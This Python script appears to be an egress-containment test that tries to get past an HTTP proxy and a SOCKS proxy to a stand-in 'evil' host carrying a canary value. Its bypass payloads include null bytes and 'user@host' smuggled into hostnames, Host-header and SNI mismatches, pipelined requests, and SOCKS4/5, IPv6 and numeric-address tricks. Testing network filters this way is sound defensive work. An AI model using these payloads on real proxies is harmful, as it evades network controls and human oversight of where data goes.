"""The explicit proxies: HTTP at 3128, SOCKS at 1080."""

from tries import *


def ask_proxy(text):
    data = exchange(connect(GATEWAY, 3128), text.encode("latin-1"))
    if b"200" in data[:16]:
        return data
    raise OSError(data[:200])


@attempt
def tunnel():
    return ask_proxy(f"CONNECT {EVIL_NAME}:443 HTTP/1.1\r\nHost: {EVIL_NAME}:443\r\n\r\n")


@attempt
def tunnel_by_address():
    return ask_proxy(f"CONNECT {EVIL}:443 HTTP/1.1\r\nHost: {EVIL}:443\r\n\r\n")


@attempt
def tunnel_to_another_port():
    return ask_proxy("CONNECT port.wild.example.org:22 HTTP/1.1\r\nHost: port.wild.example.org:22\r\n\r\n")


@attempt
def tunnel_under_another_host():
    return ask_proxy(f"CONNECT {EVIL_NAME}:443 HTTP/1.1\r\nHost: {WEB_NAME}:443\r\n\r\n")


@attempt
def tunnel_with_a_zero_byte():
    return ask_proxy(f"CONNECT {WEB_NAME}\0.{EVIL_NAME}:443 HTTP/1.1\r\nHost: {WEB_NAME}\r\n\r\n")


@attempt
def tunnel_with_a_user():
    return ask_proxy(f"CONNECT {WEB_NAME}@{EVIL_NAME}:443 HTTP/1.1\r\nHost: {WEB_NAME}\r\n\r\n")


@attempt
def name_of_another_in_a_tunnel():
    made = connect(GATEWAY, 3128)
    made.sendall(f"CONNECT {WEB_NAME}:443 HTTP/1.1\r\nHost: {WEB_NAME}:443\r\n\r\n".encode())
    made.recv(4096)
    return tls(None, name=EVIL_NAME, made=made)


@attempt
def host_of_another_in_a_tunnel():
    made = connect(GATEWAY, 3128)
    made.sendall(f"CONNECT {WEB_NAME}:80 HTTP/1.1\r\nHost: {WEB_NAME}:80\r\n\r\n".encode())
    made.recv(4096)
    return exchange(made, get(EVIL_NAME))


@attempt
def request():
    return ask_proxy(f"GET http://{EVIL_NAME}/{CANARY} HTTP/1.1\r\nHost: {EVIL_NAME}\r\n\r\n")


@attempt
def request_under_another_host():
    return ask_proxy(f"GET http://{EVIL_NAME}/{CANARY} HTTP/1.1\r\nHost: {WEB_NAME}\r\n\r\n")


@attempt
def request_for_an_allowed_url_to_another_host():
    return ask_proxy(f"GET http://{WEB_NAME}/{CANARY} HTTP/1.1\r\nHost: {EVIL_NAME}\r\n\r\n")


@attempt
def request_with_a_user():
    return ask_proxy(f"GET http://{WEB_NAME}@{EVIL_NAME}/{CANARY} HTTP/1.1\r\nHost: {EVIL_NAME}\r\n\r\n")


@attempt
def second_request():
    data = exchange(connect(GATEWAY, 3128), f"GET http://{WEB_NAME}/ HTTP/1.1\r\nHost: {WEB_NAME}\r\n\r\nGET http://{EVIL_NAME}/{CANARY} "
                    f"HTTP/1.1\r\nHost: {EVIL_NAME}\r\n\r\n".encode(), 65536)
    return data if data.count(b"HTTP/1.1 200") > 1 else None


def socks(address, port=80, command=1, version=5):
    with connect(GATEWAY, 1080) as made:
        made.sendall(b"\5\1\0")
        if made.recv(2) != b"\5\0":
            raise OSError("no SOCKS5")
        made.sendall(bytes([version, command, 0]) + address + struct.pack("!H", port))
        answer = made.recv(64)
        if answer[:2] != b"\5\0":
            raise OSError(f"code {answer[1:2].hex()}")
        made.sendall(get(EVIL_NAME))
        return not_refused(made.recv(4096))


def by_name(name):
    name = name if isinstance(name, bytes) else name.encode()
    return b"\3" + bytes([len(name)]) + name


@attempt
def socks_by_name():
    return socks(by_name(EVIL_NAME))


@attempt
def socks_by_address():
    return socks(b"\1" + socket.inet_aton(EVIL))


@attempt
def socks_by_address_six():
    return socks(b"\4" + socket.inet_pton(socket.AF_INET6, "2a0f:10::81"))


@attempt
def socks_with_a_zero_byte():
    return socks(by_name(b"web.example.org\0.evil.example.net"))


@attempt
def socks_host_of_another():
    return socks(by_name(WEB_NAME))


@attempt
def socks_numeric_name():
    return socks(by_name("0x7f.1"), 9999)


@attempt
def socks_bind():
    return socks(by_name(WEB_NAME), command=2)


@attempt
def socks_udp():
    return socks(by_name(WEB_NAME), command=3)


@attempt
def socks_four():
    data = exchange(connect(GATEWAY, 1080), b"\4\1\0\x50" + socket.inet_aton(EVIL) + b"user\0")
    if data[1:2] != b"\x5a":
        raise OSError(data)
    return data


main()
